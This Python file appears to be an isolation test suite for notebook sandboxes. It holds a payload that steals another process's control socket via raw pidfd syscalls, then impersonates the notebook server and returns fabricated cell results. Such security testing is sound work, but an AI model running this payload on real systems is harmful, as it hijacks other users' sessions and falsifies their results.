"""Attacks on the wall between a notebook and everything above, beside and after it."""

CALLS = """
import ctypes, json, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(number, *arguments):
    return libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in arguments])
def others():
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]
def takes_over(descriptor):
    # Whoever holds the server's control socket answers in its place: this one is kept alive, and runs the next notebook.
    if os.fork():
        return
    os.closerange(0, descriptor)
    control = socket.socket(fileno=descriptor)
    control.setblocking(True)
    while True:
        said, pipes, _, _ = socket.recv_fds(control, 1 << 16, 4)
        if not said:
            os._exit(0)
        if said == b"e":
            control.send(b"d")
        elif len(pipes) == 2:
            os.read(pipes[0], 1 << 16)
            os.write(pipes[1], b'{"begun": 0}\\n{"cell": 0, "outputs": [], "count": 1}\\n{"ended": 0}\\n')
            os.close(pipes[1])
"""

FIRST = {
    "takeover-by-pidfd": CALLS
    + """
for number in others():
    pidfd = call(434, number, 0)
    for wanted in range(64):
        descriptor = call(438, pidfd, wanted, 0)
        if descriptor >= 0 and os.readlink(f"/proc/self/fd/{descriptor}").startswith("socket:"):
            takes_over(descriptor)
            print("taken over")
""",
}
